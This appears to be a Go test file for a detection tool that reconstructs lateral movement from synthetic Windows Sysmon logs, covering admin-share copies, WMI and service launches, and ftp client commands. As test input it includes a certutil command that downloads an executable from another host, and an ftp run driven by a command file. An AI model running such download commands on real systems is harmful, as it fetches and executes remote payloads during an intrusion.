package winhost

import (
	"fmt"
	"testing"

	"waybill/internal/model"
	"waybill/internal/synth"
)

// ran logs a start with its parent by its id, and who made the program.
func ran(n *synth.Net, on *synth.Host, guid, image, command, parentGUID, parent, company string) {
	n.Log(on, synth.Sysmon, 1, "ProcessGuid", guid, "ProcessId", "9", "Image", image, "CommandLine", command, "User", "bob", "LogonId", "0x99",
		"Company", company, "ParentProcessGuid", parentGUID, "ParentImage", parent, "ParentCommandLine", parent)
}

// TestOrderedBy: what started a shell, or a program in an odd place, started what these start.
func TestOrderedBy(t *testing.T) {
	for name, c := range map[string]struct{ by, by2, parent, want string }{
		"WMI's shell":      {`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\cmd.exe`, "{B}", "wmi"},
		"a service's":      {services, `C:\Windows\zq.exe`, "{B}", "service"},
		"an agent's":       {services, `C:\Program Files\Acme\agent.exe`, "{B}", ""},
		"another shell's":  {`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\cmd.exe`, "{C}", ""},
		"a shell by hand":  {`C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`, "{B}", ""},
		"of no known host": {`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\cmd.exe`, "", ""},
	} {
		n := synth.New(1)
		srv, ws := n.Host("SRV", "10.0.0.8"), n.Host("WS", "10.0.0.31")
		n.SharePut(srv, ws, "bob", "C$", `t\a.exe`)
		n.Sleep(1e9)
		ran(n, srv, "{B}", c.by2, `x`, "{A}", c.by, "-")
		ran(n, srv, "{D}", `C:\t\a.exe`, `C:\t\a.exe`, c.parent, c.by2, "-")
		ran(n, srv, "{E}", `C:\Windows\System32\certutil.exe`, `certutil -urlcache -f http://10.0.0.31/b.exe C:\t\b.exe`, c.parent, c.by2, "-")
		started, asked := "", ""
		for _, tr := range follow(t, n.Logs).Transfers {
			for _, x := range tr.Executed {
				if tr.Name == "a.exe" {
					started += x.By
				}
			}
			asked += tr.CommandBy
		}
		if started != c.want || asked != c.want {
			t.Errorf("%s: started by %q, asked by %q, not %q", name, started, asked, c.want)
		}
	}
}

// TestMaker: a program names no maker only where the logs tell those of others.
func TestMaker(t *testing.T) {
	for _, c := range []struct{ others, company, want string }{
		{"Microsoft Corporation", "-", "-"}, {"Microsoft Corporation", "?", "-"}, {"Microsoft Corporation", "Acme", "Acme"},
		{"-", "-", ""}, {"", "-", ""}, {"Microsoft Corporation", "", ""},
	} {
		n := synth.New(1)
		srv, ws := n.Host("SRV", "10.0.0.8"), n.Host("WS", "10.0.0.31")
		n.SharePut(srv, ws, "bob", "C$", `t\a.exe`)
		n.Sleep(1e9)
		ran(n, srv, "{B}", `C:\t\a.exe`, `a.exe`, "{A}", services, c.company)
		ran(n, ws, "{C}", `C:\Windows\System32\cmd.exe`, `cmd.exe`, "{A}", services, c.others)
		for _, tr := range follow(t, n.Logs).Transfers {
			if tr.Company != c.want {
				t.Errorf("%+v: %q", c, tr.Company)
			}
		}
	}
}

// TestAsks: a client whose line names a host and no file.
func TestAsks(t *testing.T) {
	for command, want := range map[string]string{
		`ftp.exe -s:C:\t\c.txt 10.0.0.8`: "ftp 10.0.0.8 with a file of commands",
		`ftp 10.0.0.8`:                   "ftp 10.0.0.8 ",
		`ftp -?`:                         "",
		`ftp.exe WS`:                     "", // itself
	} {
		n := synth.New(1)
		ws := n.Host("WS", "10.0.0.31")
		ran(n, ws, "{B}", `C:\Windows\System32\ftp.exe`, command, "{A}", `C:\Windows\System32\cmd.exe`, "-")
		got := ""
		for _, a := range follow(t, n.Logs).Accesses {
			if a.What == "command" {
				got += fmt.Sprintf("%s %s %s", a.Channel, a.Destination.IP, a.Detail)
				if a.Source.Host != ws.FQDN() && a.Source.Host != ws.Name || a.Destination.IP == (model.Addr{}) {
					t.Errorf("%+v", a)
				}
			}
		}
		if got != want {
			t.Errorf("%s: %q", command, got)
		}
	}
}
